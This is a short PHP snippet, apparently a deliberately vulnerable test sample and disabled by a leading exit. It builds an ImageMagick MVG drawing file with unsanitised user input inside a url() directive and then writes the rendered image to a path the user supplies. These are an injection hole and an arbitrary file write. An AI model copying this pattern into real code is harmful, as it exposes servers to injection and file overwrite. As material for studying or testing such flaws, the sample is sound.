<?php exit; /* inert */ 
$d = tempnam('/tmp', 'im') . '.mvg';
file_put_contents($d, "push graphic-context\nfill 'url(" . $_POST['u'] . ")'\npop graphic-context");
$im = new Imagick(); $im->readImage('mvg:' . $d); $im->writeImage($_POST['o']); $im->destroy();
